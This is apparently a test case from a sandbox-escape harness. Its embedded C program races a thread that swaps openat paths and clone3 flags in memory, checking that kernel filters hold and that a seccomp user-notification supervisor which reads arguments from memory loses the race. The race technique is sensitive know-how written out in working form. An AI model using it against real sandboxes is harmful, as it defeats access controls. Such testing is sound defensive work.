"""SC-11: change a path or flags in memory after they were checked and before they are used."""
from escape.harness import Untestable, escaped
from escape.lib_filter import ALLOW, ERRNO, KILL, RETURN, TIERS, compiled

TITLE = "arguments that change in memory"
TRIED = ("a thread swaps the path of openat (own file, /usr) and the flags of clone3 while another calls, 30 "
         "000 times")
WALLS = ["seccomp", "landlock", "root_read_only"]
RACE = r"""
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

static char path[64];
static const char *allowed, *forbidden;
static volatile int done, turns;
static int listener = -1;
static volatile unsigned long clone_args[11];

static void *swap(void *arg)
{
    for (unsigned i = 0; !done; i++) {
        strcpy(path, i & 1 ? forbidden : allowed);
        clone_args[0] = i & 1 ? 0x10000000 : 0;
        turns++;
    }
    return arg;
}

/* A supervisor of the kind that must not exist: it looks at the path in memory, and when it
 * is content lets the kernel look again. */
static void *judge(void *arg)
{
    struct seccomp_notif request;
    struct seccomp_notif_resp answer;

    while (!done) {
        memset(&request, 0, sizeof request);
        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &request))
            continue;
        int bad = strcmp((const char *)request.data.args[1], forbidden) == 0;
        answer = (struct seccomp_notif_resp){.id = request.id, .error = bad ? -EPERM : 0,
                                             .flags = bad ? 0 : SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
    }
    return arg;
}

static void be_judged(void)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {4, code};
    pthread_t thread;

    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
    if (listener < 0)
        printf("no listener: %s\n", strerrorname_np(errno)), exit(2);
    if (pthread_create(&thread, NULL, judge, NULL))
        exit(3);
}

int main(int argc, char **argv)
{
    int opened = 0, refused = 0, cloned = 0, tries = atoi(argv[4]);
    pthread_t thread;

    allowed = argv[2], forbidden = argv[3];
    strcpy(path, allowed);
    if (pthread_create(&thread, NULL, swap, NULL))
        return 3;
    if (!strcmp(argv[1], "judged"))
        be_judged();
    while (turns < 1000) /* both threads run */
        usleep(100);
    /* Longer where the one that swaps has not had its turn. */
    for (int i = 0; (i < tries || (!opened && i < 100 * tries)) && (listener < 0 || access(forbidden, F_OK)); i++) {
        int fd = (int)syscall(SYS_openat, AT_FDCWD, path, O_CREAT | O_WRONLY, 0600);
        fd >= 0 ? opened++ : refused++;
        if (fd >= 0)
            close(fd);
        if (listener < 0) {
            long pid = syscall(SYS_clone3, clone_args, 64);
            if (pid == 0)
                _exit(0);
            cloned += pid > 0;
        }
    }
    printf("opened %d, refused %d, cloned %d, forbidden file %s\n", opened, refused, cloned,
           access(forbidden, F_OK) ? "absent" : "made");
    fflush(stdout);
    _exit(0);
}
"""


def judged_by_kernel():
    """No verdict of any filter hands a decision to a process."""
    for tier in TIERS:
        for code, _, _, k in compiled(tier)[1]:
            if code == RETURN and k & 0xffff0000 not in (ALLOW, ERRNO, KILL):
                escaped("ESCAPE", f"{tier} has the verdict {k:#x}, decided elsewhere")


def attack(box):
    judged_by_kernel()
    done = box.run([box.c(RACE)], args=["plain", "/workspace/allowed", "/usr/coto-race", 30000])
    assert done.code == 0 and "opened 0" not in done.text, done
    if "cloned 0" not in done.text or "absent" not in done.text:
        escaped("WRITE", done.text)
    return f"filters decide alone; {done.text}"


def control(box):
    """A supervisor that reads the path in memory loses the race."""
    done = box.run([box.c(RACE)], without=["seccomp"],
                   args=["judged", "/workspace/allowed", "/workspace/forbidden", 200000])
    if done.code == 2:
        raise Untestable(done.text)
    assert done.code == 0 and "forbidden file made" in done.text, done
    return f"a judge of memory is fooled: {done.text}"
